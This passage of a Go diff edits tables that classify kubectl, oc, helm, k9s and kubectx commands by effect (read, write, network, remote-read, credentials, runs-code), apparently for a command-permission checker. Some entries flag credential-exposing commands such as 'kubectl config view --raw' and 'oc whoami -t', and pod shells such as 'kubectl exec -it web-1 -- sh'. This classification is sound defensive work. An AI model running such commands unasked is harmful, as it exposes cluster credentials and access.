-	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"wait|diff"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "--all", "-A", "--all-namespaces", "--allow-missing-template-keys", "--local", "--show-managed-fields", "--force-conflicts", "--prune", "--server-side"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--field-selector", "--for", "-o", "--output", "-l", "--selector", "--template", "--timeout", "--concurrency", "--field-manager", "--prune-allowlist"}, Effects: map[string]string{"--cache-dir": "write", "--filename": "read", "--kubeconfig": "exec", "--kustomize": "read", "--profile-output": "write", "--recursive": "recursive", "--server": "url", "-R": "recursive", "-f": "read", "-k": "read", "-s": "url"}, Always: []string{"network"}, Examples: []string{"kubectl wait --for=condition=Ready pod/web-1 --timeout=60s", "kubectl diff -f k8s/"}}}}
+func effectsContainersL186() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"wait|diff"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "--all", "-A", "--all-namespaces", "--allow-missing-template-keys", "--local", "--show-managed-fields", "--force-conflicts", "--prune", "--server-side"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--field-selector", "--for", "-o", "--output", "-l", "--selector", "--template", "--timeout", "--concurrency", "--field-manager", "--prune-allowlist"}, Effects: map[string]string{"--cache-dir": "write", "--filename": "read", "--kubeconfig": "exec", "--kustomize": "read", "--profile-output": "write", "--recursive": "recursive", "--server": "url", "-R": "recursive", "-f": "read", "-k": "read", "-s": "url"}, Always: []string{"remote-read"}, Examples: []string{"kubectl wait --for=condition=Ready pod/web-1 --timeout=60s", "kubectl diff -f k8s/"}}}}
 }
 
-func effectsContainersL211() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"rollout", "status|history"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "-w", "--watch", "--allow-missing-template-keys", "--show-managed-fields"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--revision", "-l", "--selector", "--timeout", "-o", "--output", "--template"}, Effects: map[string]string{"--cache-dir": "write", "--filename": "read", "--kubeconfig": "exec", "--kustomize": "read", "--profile-output": "write", "--recursive": "recursive", "--server": "url", "-R": "recursive", "-f": "read", "-k": "read", "-s": "url"}, Always: []string{"network"}, Examples: []string{"kubectl rollout status deploy/web -n prod", "kubectl rollout history deploy/web"}}}}
+func effectsContainersL212() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"rollout", "status|history"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "-w", "--watch", "--allow-missing-template-keys", "--show-managed-fields"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--revision", "-l", "--selector", "--timeout", "-o", "--output", "--template"}, Effects: map[string]string{"--cache-dir": "write", "--filename": "read", "--kubeconfig": "exec", "--kustomize": "read", "--profile-output": "write", "--recursive": "recursive", "--server": "url", "-R": "recursive", "-f": "read", "-k": "read", "-s": "url"}, Always: []string{"remote-read"}, Examples: []string{"kubectl rollout status deploy/web -n prod", "kubectl rollout history deploy/web"}}}}
 }
 
-func effectsContainersL235() Pack {
+func effectsContainersL236() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"cluster-info", "dump"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "-A", "--all-namespaces", "--allow-missing-template-keys", "--show-managed-fields"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "--namespaces", "-o", "--output", "--pod-running-timeout", "--template"}, Effects: map[string]string{"--cache-dir": "write", "--kubeconfig": "exec", "--output-directory": "write", "--profile-output": "write", "--server": "url", "-s": "url"}, Always: []string{"network"}, Examples: []string{"kubectl cluster-info dump --output-directory=dump"}}}}
 }
 
-func effectsContainersL255() Pack {
+func effectsContainersL256() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"config", "view"}, Flags: []string{"--allow-missing-template-keys", "--flatten", "--merge", "--minify", "--show-managed-fields"}, Values: []string{"--context", "--cluster", "--user", "-o", "--output", "--template", "-v", "--v"}, Effects: map[string]string{"--kubeconfig": "read", "--raw": "credentials"}, Examples: []string{"kubectl config view", "kubectl config view --minify -o jsonpath='{.clusters[0].cluster.server}'", "kubectl config view --raw"}}}}
 }
 
-func effectsContainersL266() Pack {
+func effectsContainersL267() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"config", "get-contexts|current-context|get-clusters|get-users"}, Flags: []string{"--no-headers"}, Values: []string{"-o", "--output", "-v", "--v"}, Effects: map[string]string{"--kubeconfig": "read"}, Examples: []string{"kubectl config get-contexts", "kubectl config current-context", "kubectl config get-contexts -o name"}}}}
 }
 
-func effectsContainersL275() Pack {
+func effectsContainersL276() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"config", "use-context|use|set-context|set-cluster|set-credentials|set|unset|delete-context|delete-cluster|delete-user|rename-context"}, Flags: []string{"--current", "--embed-certs", "--insecure-skip-tls-verify"}, Values: []string{"--namespace", "--cluster", "--user", "--server", "--certificate-authority", "-v", "--v"}, Effects: map[string]string{"--kubeconfig": "write"}, Always: []string{"writes-files"}, Examples: []string{"kubectl config use-context prod", "kubectl config set-context --current --namespace=dev"}}}}
 }
 
-func effectsContainersL285() Pack {
+func effectsContainersL286() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"plugin", "list"}, Flags: []string{"--name-only"}, Examples: []string{"kubectl plugin list"}}}}
 }
 
-func effectsContainersL291() Pack {
+func effectsContainersL292() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"completion"}, Examples: []string{"kubectl completion bash"}}}}
 }
 
-func effectsContainersL299() Pack {
+func effectsContainersL300() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"kustomize"}, Flags: []string{"--as-current-user", "--helm-debug", "--reorder"}, Values: []string{"--load-restrictor", "--helm-api-versions", "--helm-kube-version", "-e", "--env", "--network-name"}, Effects: map[string]string{"--enable-alpha-plugins": "runs-code", "--enable-exec": "runs-code", "--enable-helm": "runs-code", "--helm-command": "exec", "--mount": "exec", "--network": "runs-code", "--output": "write", "-o": "write"}, Operands: "read", Always: []string{"recursive", "network"}, Examples: []string{"kubectl kustomize overlays/prod", "kubectl kustomize --enable-helm ."}}}}
 }
 
-func effectsContainersL317() Pack {
+func effectsContainersL318() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"exec|attach|run|debug"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "-i", "--stdin", "-t", "--tty", "-q", "--quiet", "--rm", "--attach", "--command", "--leave-stdin-open", "--privileged", "--expose", "--save-config", "--share-processes", "--arguments-only", "--same-node", "--replace", "--keep-labels", "--keep-annotations", "--keep-liveness", "--keep-readiness", "--keep-startup", "--keep-init-containers", "--allow-missing-template-keys", "--show-managed-fields", "--wait"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "-c", "--container", "--pod-running-timeout", "--image", "--image-pull-policy", "--env", "--restart", "--overrides", "--override-type", "-l", "--labels", "--annotations", "--port", "--dry-run", "--target", "--profile", "--copy-to", "--set-image", "--custom", "-o", "--output", "--template", "--timeout", "--field-manager", "--grace-period", "--cascade"}, Effects: map[string]string{"--cache-dir": "write", "--filename": "read", "--kubeconfig": "exec", "--kustomize": "read", "--profile-output": "write", "--recursive": "recursive", "--server": "url", "-R": "recursive", "-f": "read", "-k": "read", "-s": "url"}, Always: []string{"network", "runs-code"}, Examples: []string{"kubectl exec -it web-1 -- sh", "kubectl run debug --rm -it --image=busybox -- sh", "kubectl debug node/n1 -it --image=ubuntu", "kubectl attach -it web-1"}}}}
 }
 
-func effectsContainersL349() Pack {
+func effectsContainersL350() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"cp"}, Flags: []string{"--no-preserve"}, Values: []string{"-n", "--namespace", "--context", "-c", "--container", "--retries"}, Effects: map[string]string{"--kubeconfig": "exec"}, Operands: "upload", Last: "write", Always: []string{"network"}, Examples: []string{"kubectl cp web-1:/var/log/app.log ./app.log", "kubectl cp config.yml web-1:/tmp/config.yml -n prod"}}}}
 }
 
-func effectsContainersL361() Pack {
+func effectsContainersL362() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"port-forward"}, Values: []string{"-n", "--namespace", "--context", "--address", "--pod-running-timeout"}, Effects: map[string]string{"--kubeconfig": "exec"}, Always: []string{"network"}, Examples: []string{"kubectl port-forward svc/web 8080:80"}}}}
 }
 
-func effectsContainersL371() Pack {
+func effectsContainersL372() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"proxy"}, Flags: []string{"--append-server-path", "--disable-filter"}, Values: []string{"--accept-hosts", "--accept-paths", "--address", "--api-prefix", "--keepalive", "-p", "--port", "--reject-methods", "--reject-paths", "-P", "--www-prefix", "--context"}, Effects: map[string]string{"--kubeconfig": "exec", "--unix-socket": "write", "--www": "upload", "-u": "write", "-w": "upload"}, Always: []string{"network"}, Examples: []string{"kubectl proxy --port=8001", "kubectl proxy --address=0.0.0.0 --port=12345 --www=/tmp/x --www-prefix=/x/"}}}}
 }
 
-func effectsContainersL388() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"apply|create|replace|delete|patch|label|annotate|scale|autoscale|expose|set|taint|cordon|uncordon|drain|certificate|edit"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "--all", "-A", "--all-namespaces", "--force", "--force-conflicts", "--prune", "--server-side", "--overwrite", "--local", "--ignore-not-found", "--now", "-i", "--interactive", "--wait", "--save-config", "--delete-emptydir-data", "--ignore-daemonsets", "--disable-eviction", "--list", "--openapi-patch", "--output-patch", "--windows-line-endings", "--allow-missing-template-keys", "--show-managed-fields", "--current"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "-l", "--selector", "--field-selector", "-o", "--output", "--dry-run", "--grace-period", "--cascade", "--timeout", "--prune-allowlist", "--field-manager", "--validate", "--replicas", "--current-replicas", "--resource-version", "--type", "-p", "--patch", "--subresource", "--template", "--pod-selector", "--max", "--min", "--cpu-percent", "--name", "--port", "--protocol", "--target-port", "--raw", "--image", "--from-literal", "--docker-server", "--docker-username", "--docker-password", "--docker-email"}, Effects: map[string]string{"--cache-dir": "write", "--filename": "read", "--from-env-file": "read", "--from-file": "read", "--kubeconfig": "exec", "--kustomize": "read", "--patch-file": "read", "--profile-output": "write", "--recursive": "recursive", "--server": "url", "-R": "recursive", "-f": "read", "-k": "read", "-s": "url"}, Always: []string{"network"}, Examples: []string{"kubectl apply -f k8s/", "kubectl delete pod web-1", "kubectl scale deploy/web --replicas=3", "kubectl edit deploy/web", "kubectl create namespace dev"}}}}
+func effectsContainersL389() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"apply|create|replace|delete|patch|label|annotate|scale|autoscale|expose|set|taint|cordon|uncordon|drain|certificate|edit"}, Flags: []string{"--disable-compression", "--insecure-skip-tls-verify", "--match-server-version", "--warnings-as-errors", "--all", "-A", "--all-namespaces", "--force", "--force-conflicts", "--prune", "--server-side", "--overwrite", "--local", "--ignore-not-found", "--now", "-i", "--interactive", "--wait", "--save-config", "--delete-emptydir-data", "--ignore-daemonsets", "--disable-eviction", "--list", "--openapi-patch", "--output-patch", "--windows-line-endings", "--allow-missing-template-keys", "--show-managed-fields", "--current"}, Values: []string{"--as", "--as-group", "--as-uid", "--cluster", "--context", "-n", "--namespace", "--password", "--request-timeout", "--tls-server-name", "--token", "--user", "--username", "-v", "--v", "--vmodule", "--log-flush-frequency", "--certificate-authority", "--client-certificate", "--client-key", "-l", "--selector", "--field-selector", "-o", "--output", "--grace-period", "--cascade", "--timeout", "--prune-allowlist", "--field-manager", "--validate", "--replicas", "--current-replicas", "--resource-version", "--type", "-p", "--patch", "--subresource", "--template", "--pod-selector", "--max", "--min", "--cpu-percent", "--name", "--port", "--protocol", "--target-port", "--raw", "--image", "--from-literal", "--docker-server", "--docker-username", "--docker-password", "--docker-email"}, Effects: map[string]string{"--cache-dir": "write", "--dry-run": "dry-run", "--filename": "read", "--from-env-file": "read", "--from-file": "read", "--kubeconfig": "exec", "--kustomize": "read", "--patch-file": "read", "--profile-output": "write", "--recursive": "recursive", "--server": "url", "-R": "recursive", "-f": "read", "-k": "read", "-s": "url"}, Always: []string{"network"}, Examples: []string{"kubectl apply -f k8s/", "kubectl delete pod web-1", "kubectl scale deploy/web --replicas=3", "kubectl edit deploy/web", "kubectl create namespace dev", "kubectl delete ns staging --dry-run=client", "kubectl apply -f k8s/ --dry-run=server", "kubectl delete pod web-1 --dry-run=none"}}}}
 }
 
-func effectsContainersL423() Pack {
+func effectsContainersL426() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubectl", "oc"}, Sub: []string{"rollout", "restart|undo|pause|resume"}, Values: []string{"-n", "--namespace", "--context", "-l", "--selector", "--to-revision", "--dry-run", "-o", "--output", "--field-manager", "--template"}, Effects: map[string]string{"--filename": "read", "--kubeconfig": "exec", "-f": "read"}, Always: []string{"network"}, Examples: []string{"kubectl rollout restart deploy/web", "kubectl rollout undo deploy/web --to-revision=2"}}}}
 }
 
-func effectsContainersL436() Pack {
+func effectsContainersL439() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"oc"}, Sub: []string{"whoami"}, Flags: []string{"-c", "--show-context", "--show-server", "--show-console"}, Values: []string{"-n", "--namespace", "--context", "-o", "--output"}, Effects: map[string]string{"--kubeconfig": "exec", "--show-token": "credentials", "-t": "credentials"}, Always: []string{"network"}, Examples: []string{"oc whoami", "oc whoami -t"}, Counter: []string{"kubectl auth whoami"}}}}
 }
 
-func effectsContainersL449() Pack {
+func effectsContainersL452() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"oc"}, Sub: []string{"login|logout|project"}, Flags: []string{"--insecure-skip-tls-verify", "--web", "-q", "--short"}, Values: []string{"-u", "--username", "-p", "--password", "--token", "--certificate-authority", "-n", "--namespace"}, Effects: map[string]string{"--kubeconfig": "write", "--server": "url", "-s": "url"}, Always: []string{"network", "writes-files"}, Examples: []string{"oc login https://api.example.com:6443 -u dev", "oc project demo", "oc logout"}}}}
 }
 
-func effectsContainersL461() Pack {
+func effectsContainersL464() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"oc"}, Sub: []string{"projects"}, Flags: []string{"-q", "--short"}, Always: []string{"network"}, Examples: []string{"oc projects"}}}}
 }
 
-func effectsContainersL468() Pack {
+func effectsContainersL471() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"oc"}, Sub: []string{"rsh|new-app|new-build|start-build|process"}, Always: []string{"network", "runs-code"}, Examples: []string{"oc rsh web-1", "oc start-build api --from-dir=."}}}}
 }
 
-func effectsContainersL474() Pack {
+func effectsContainersL477() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"oc"}, Sub: []string{"rsync"}, Flags: []string{"--delete", "--no-perms", "-q", "--quiet", "--progress", "-w", "--watch"}, Values: []string{"-c", "--container", "-n", "--namespace", "--exclude", "--include", "--strategy"}, Operands: "upload", Last: "write", Always: []string{"network"}, Examples: []string{"oc rsync ./site web-1:/srv/"}}}}
 }
 
-func effectsContainersL488() Pack {
+func effectsContainersL491() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubectx"}, Flags: []string{"-c", "--current"}, Effects: map[string]string{"--unset": "writes-files", "-u": "writes-files"}, Env: map[string]string{"KUBECONFIG": "read"}, Examples: []string{"kubectx", "kubectx -c"}, Counter: []string{"kubectx prod"}}}}
 }
 
-func effectsContainersL499() Pack {
+func effectsContainersL502() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubectx"}, Sub: []string{"*"}, Flags: []string{"-d"}, Env: map[string]string{"KUBECONFIG": "write"}, Always: []string{"writes-files"}, Examples: []string{"kubectx prod", "kubectx -", "kubectx -d old-cluster", "kubectx dev=gke_dev_us-east1_dev"}}}}
 }
 
-func effectsContainersL509() Pack {
+func effectsContainersL512() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubens"}, Flags: []string{"-c", "--current"}, Env: map[string]string{"KUBECONFIG": "exec"}, Always: []string{"network"}, Examples: []string{"kubens", "kubens -c"}, Counter: []string{"kubens prod"}}}}
 }
 
-func effectsContainersL518() Pack {
+func effectsContainersL521() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"kubens"}, Sub: []string{"*"}, Env: map[string]string{"KUBECONFIG": "write"}, Always: []string{"network", "writes-files"}, Examples: []string{"kubens prod", "kubens -"}}}}
 }
 
-func effectsContainersL527() Pack {
+func effectsContainersL530() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"k9s"}, Flags: []string{"-A", "--all-namespaces", "--crumbsless", "--headless", "--insecure-skip-tls-verify", "--logoless", "--readonly", "--splashless", "--write"}, Values: []string{"--as", "--as-group", "--certificate-authority", "--client-certificate", "--client-key", "--cluster", "-c", "--command", "--context", "-l", "--logLevel", "-n", "--namespace", "-r", "--refresh", "--request-timeout", "--token", "--user"}, Effects: map[string]string{"--kubeconfig": "exec", "--logFile": "write", "--screen-dump-dir": "write"}, Operands: "subcommand", Always: []string{"network", "runs-code"}, Examples: []string{"k9s", "k9s -n prod --readonly", "k9s --context staging"}, Counter: []string{"k9s version"}}}}
 }
 
-func effectsContainersL543() Pack {
+func effectsContainersL546() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"k9s"}, Sub: []string{"version|info"}, Flags: []string{"-s", "--short"}, Examples: []string{"k9s version", "k9s info"}}}}
 }
 
-func effectsContainersL553() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"helm"}, Flags: []string{"--debug", "--kube-insecure-skip-tls-verify"}, Values: []string{"--burst-limit", "--kube-apiserver", "--kube-as-group", "--kube-as-user", "--kube-ca-file", "--kube-context", "--kube-tls-server-name", "--kube-token", "-n", "--namespace", "--qps", "--content-cache"}, Effects: map[string]string{"--kubeconfig": "exec", "--registry-config": "read", "--repository-cache": "write", "--repository-config": "read"}, Operands: "subcommand", Env: map[string]string{"HELM_CONFIG_HOME": "exec", "HELM_DATA_HOME": "exec", "HELM_PLUGINS": "exec", "KUBECONFIG": "exec"}, Examples: []string{"helm", "helm frobnicate"}, Counter: []string{"helm list"}}}}
+func effectsContainersL556() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"helm"}, Flags: []string{"--debug", "--kube-insecure-skip-tls-verify"}, Values: []string{"--burst-limit", "--kube-apiserver", "--kube-as-group", "--kube-as-user", "--kube-ca-file", "--kube-context", "--kube-tls-server-name", "--kube-token", "-n", "--namespace", "--qps", "--content-cache"}, Effects: map[string]string{"--kubeconfig": "exec", "--registry-config": "read", "--repository-cache": "write", "--repository-config": "read"}, Operands: "subcommand", Env: map[string]string{"HELM_CONFIG_HOME": "exec", "HELM_DATA_HOME": "exec", "HELM_PLUGINS": "exec", "KUBECONFIG": "exec"}, HelpFlags: []string{"--help", "-h"}, Examples: []string{"helm", "helm frobnicate"}, Counter: []string{"helm list"}}}}
 }
 
-func effectsContainersL572() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"list|ls|status|history|hist"}, Flags: []string{"--debug", "--kube-insecure-skip-tls-verify", "-a", "--all", "-A", "--all-namespaces", "-d", "--date", "--deployed", "--failed", "--no-headers", "--pending", "-r", "--reverse", "-q", "--short", "--superseded", "--uninstalled", "--uninstalling", "--show-desc", "--show-resources"}, Values: []string{"--burst-limit", "--kube-apiserver", "--kube-as-group", "--kube-as-user", "--kube-ca-file", "--kube-context", "--kube-tls-server-name", "--kube-token", "-n", "--namespace", "--qps", "-f", "--filter", "-m", "--max", "--offset", "-o", "--output", "-l", "--selector", "--time-format", "--revision"}, Effects: map[string]string{"--kubeconfig": "exec", "--registry-config": "read", "--repository-cache": "write", "--repository-config": "read"}, Always: []string{"network"}, Examples: []string{"helm list -n staging", "helm status web", "helm history web --max 5"}}}}
+func effectsContainersL576() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"list|ls|status|history|hist"}, Flags: []string{"--debug", "--kube-insecure-skip-tls-verify", "-a", "--all", "-A", "--all-namespaces", "-d", "--date", "--deployed", "--failed", "--no-headers", "--pending", "-r", "--reverse", "-q", "--short", "--superseded", "--uninstalled", "--uninstalling", "--show-desc", "--show-resources"}, Values: []string{"--burst-limit", "--kube-apiserver", "--kube-as-group", "--kube-as-user", "--kube-ca-file", "--kube-context", "--kube-tls-server-name", "--kube-token", "-n", "--namespace", "--qps", "-f", "--filter", "-m", "--max", "--offset", "-o", "--output", "-l", "--selector", "--time-format", "--revision"}, Effects: map[string]string{"--kubeconfig": "exec", "--registry-config": "read", "--repository-cache": "write", "--repository-config": "read"}, Always: []string{"remote-read"}, Examples: []string{"helm list -n staging", "helm status web", "helm history web --max 5"}}}}
 }
 
-func effectsContainersL589() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"get", "notes|hooks|metadata"}, Flags: []string{"--debug", "--kube-insecure-skip-tls-verify"}, Values: []string{"--kube-context", "-n", "--namespace", "--revision", "-o", "--output"}, Effects: map[string]string{"--kubeconfig": "exec"}, Always: []string{"network"}, Examples: []string{"helm get notes web", "helm get metadata web -o json"}}}}
+func effectsContainersL593() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"get", "notes|hooks|metadata"}, Flags: []string{"--debug", "--kube-insecure-skip-tls-verify"}, Values: []string{"--kube-context", "-n", "--namespace", "--revision", "-o", "--output"}, Effects: map[string]string{"--kubeconfig": "exec"}, Always: []string{"remote-read"}, Examples: []string{"helm get notes web", "helm get metadata web -o json"}}}}
 }
 
-func effectsContainersL600() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"get", "all|manifest|values"}, Flags: []string{"--debug", "--kube-insecure-skip-tls-verify", "-a", "--all"}, Values: []string{"--kube-context", "-n", "--namespace", "--revision", "-o", "--output", "--template"}, Effects: map[string]string{"--kubeconfig": "exec"}, Always: []string{"network", "credentials"}, Examples: []string{"helm get values web -n prod", "helm get manifest web"}}}}
+func effectsContainersL604() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"get", "all|manifest|values"}, Flags: []string{"--debug", "--kube-insecure-skip-tls-verify", "-a", "--all"}, Values: []string{"--kube-context", "-n", "--namespace", "--revision", "-o", "--output", "--template"}, Effects: map[string]string{"--kubeconfig": "exec"}, Always: []string{"remote-read", "credentials"}, Examples: []string{"helm get values web -n prod", "helm get manifest web"}}}}
 }
 
-func effectsContainersL610() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"template|lint|install|upgrade"}, Flags: []string{"--debug", "--kube-insecure-skip-tls-verify", "--include-crds", "--is-upgrade", "--no-hooks", "--release-name", "--skip-crds", "--skip-tests", "--validate", "--devel", "--dependency-update", "--disable-openapi-validation", "-g", "--generate-name", "--insecure-skip-tls-verify", "--verify", "--pass-credentials", "--plain-http", "--skip-schema-validation", "--enable-dns", "--create-namespace", "--render-subchart-notes", "--take-ownership", "--quiet", "--strict", "--with-subcharts", "-i", "--install", "--atomic", "--wait", "--wait-for-jobs", "--force", "--reset-values", "--reuse-values", "--reset-then-reuse-values", "--cleanup-on-fail", "--hide-notes", "--replace", "--rollback-on-failure", "--hide-secret"}, Values: []string{"--burst-limit", "--kube-apiserver", "--kube-as-group", "--kube-as-user", "--kube-ca-file", "--kube-context", "--kube-tls-server-name", "--kube-token", "-n", "--namespace", "--qps", "--set", "--set-string", "--set-json", "--set-literal", "-a", "--api-versions", "--kube-version", "--name-template", "--post-renderer-args", "-s", "--show-only", "--version", "--description", "--username", "--password", "--ca-file", "--cert-file", "--key-file", "--labels", "--timeout", "--history-max", "--dry-run", "--repo"}, Effects: map[string]string{"--keyring": "read", "--kubeconfig": "exec", "--output-dir": "write", "--post-renderer": "exec", "--registry-config": "read", "--repository-cache": "write", "--repository-config": "read", "--set-file": "read", "--values": "read", "-f": "read"}, Operands: "read", Always: []string{"network", "recursive"}, Examples: []string{"helm template ./chart", "helm lint charts/web --strict", "helm template web ./chart -f values-prod.yaml", "helm upgrade --install web ./chart -n prod", "helm install web bitnami/nginx"}}}}
+func effectsContainersL614() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"install|upgrade"}, Flags: []string{"--debug", "--kube-insecure-skip-tls-verify", "--include-crds", "--is-upgrade", "--no-hooks", "--release-name", "--skip-crds", "--skip-tests", "--validate", "--devel", "--dependency-update", "--disable-openapi-validation", "-g", "--generate-name", "--insecure-skip-tls-verify", "--verify", "--pass-credentials", "--plain-http", "--skip-schema-validation", "--enable-dns", "--create-namespace", "--render-subchart-notes", "--take-ownership", "--quiet", "--strict", "--with-subcharts", "-i", "--install", "--atomic", "--wait", "--wait-for-jobs", "--force", "--reset-values", "--reuse-values", "--reset-then-reuse-values", "--cleanup-on-fail", "--hide-notes", "--replace", "--rollback-on-failure", "--hide-secret"}, Values: []string{"--burst-limit", "--kube-apiserver", "--kube-as-group", "--kube-as-user", "--kube-ca-file", "--kube-context", "--kube-tls-server-name", "--kube-token", "-n", "--namespace", "--qps", "--set", "--set-string", "--set-json", "--set-literal", "-a", "--api-versions", "--kube-version", "--name-template", "--post-renderer-args", "-s", "--show-only", "--version", "--description", "--username", "--password", "--ca-file", "--cert-file", "--key-file", "--labels", "--timeout", "--history-max", "--repo"}, Effects: map[string]string{"--dry-run": "dry-run", "--keyring": "read", "--kubeconfig": "exec", "--output-dir": "write", "--post-renderer": "exec", "--registry-config": "read", "--repository-cache": "write", "--repository-config": "read", "--set-file": "read", "--values": "read", "-f": "read"}, Operands: "read", Always: []string{"network", "recursive"}, Examples: []string{"helm upgrade --install web ./chart -n prod", "helm install web bitnami/nginx", "helm install web ./chart --dry-run", "helm upgrade web ./chart --dry-run=server"}, Counter: []string{"helm template ./chart"}}}}
 }
 
-func effectsContainersL641() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"show|inspect", "all|chart|readme|values|crds"}, Flags: []string{"--devel", "--insecure-skip-tls-verify", "--pass-credentials", "--plain-http", "--verify"}, Values: []string{"--version", "--repo", "--username", "--password", "--ca-file", "--cert-file", "--key-file", "--jsonpath"}, Effects: map[string]string{"--keyring": "read", "--repository-config": "read"}, Operands: "read", Always: []string{"network", "recursive"}, Examples: []string{"helm show values bitnami/nginx", "helm show chart ./chart"}}}}
+func effectsContainersL647() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"helm"}, Sub: []string{"template|lint"}, Flags: []string{"--debug", "--kube-insecure-skip-tls-verify", "--include-crds", "--is-upgrade", "--no-hooks", "--release-name", "--skip-crds", "--skip-tests", "--validate", "--devel", "--dependency-update", "--disable-openapi-validation", "-g", "--generate-name", "--insecure-skip-tls-verify", "--verify", "--pass-credentials", "--plain-http", "--skip-schema-validation", "--enable-dns", "--create-namespace", "--render-subchart-notes", "--take-ownership", "--quiet", "--strict", "--with-subcharts", "-i", "--install", "--atomic", "--wait", "--wait-for-jobs", "--force", "--reset-values", "--reuse-values", "--reset-then-reuse-values", "--cleanup-on-fail", "--hide-notes", "--replace", "--rollback-on-failure", "--hide-secret"}, Values: []string{"--burst-limit", "--kube-apiserver", "--kube-as-group", "--kube-as-user", "--kube-ca-file", "--kube-context", "--kube-tls-server-name", "--kube-token", "-n", "--namespace", "--qps", "--set", "--set-string", "--set-json", "--set-literal", "-a", "--api-versions", "--kube-version", "--name-template", "--post-renderer-args", "-s", "--show-only", "--version", "--description", "--username", "--password", "--ca-file", "--cert-file", "--key-file", "--labels", "--timeout", "--history-max", "--repo"}, Effects: map[string]string{"--keyring": "read", "--kubeconfig": "exec", "--output-dir": "write", "--post-renderer": "exec", "--registry-config": "read", "--repository-cache": 